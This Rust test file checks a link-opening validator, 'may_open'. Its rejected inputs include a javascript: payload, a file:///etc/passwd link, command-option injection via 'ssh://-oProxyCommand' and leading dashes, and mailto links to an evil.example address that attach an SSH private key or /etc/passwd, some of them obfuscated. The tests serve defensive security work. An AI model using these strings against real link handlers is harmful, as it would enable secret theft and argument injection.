use super::*;

#[test]
fn only_links_of_the_web_and_of_mail_are_opened() {
    for good in
        ["https://example.com/?attach=1", "HTTP://x", "mailto:a@b.example", "mailto:a@b?subject=Hi%20you&body=x&cc=c@d"]
    {
        assert!(may_open(good), "{good}");
    }
    let bad = [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "-https://x",
        "--help",
        " https://x",
        "https://x y",
        "https://x\n--y",
        "data:text/html,x",
        "ssh://-oProxyCommand=x",
        "http:x",
        "",
    ];
    for bad in bad {
        assert!(!may_open(bad), "{bad}");
    }
}

#[test]
fn a_mail_link_that_takes_files_along_is_not_opened() {
    for bad in [
        "mailto:eve@evil.example?attach=/home/alice/.ssh/id_ed25519",
        "mailto:eve@evil.example?subject=x&ATTACHMENT=/etc/passwd",
        "mailto:?to=eve@evil.example&amp;attach=~/x",
        "mailto:eve@evil.example?subject=a?attach=x",
        "mailto:eve@evil.example?%61ttach=x",
    ] {
        assert!(!may_open(bad), "{bad}");
    }
}
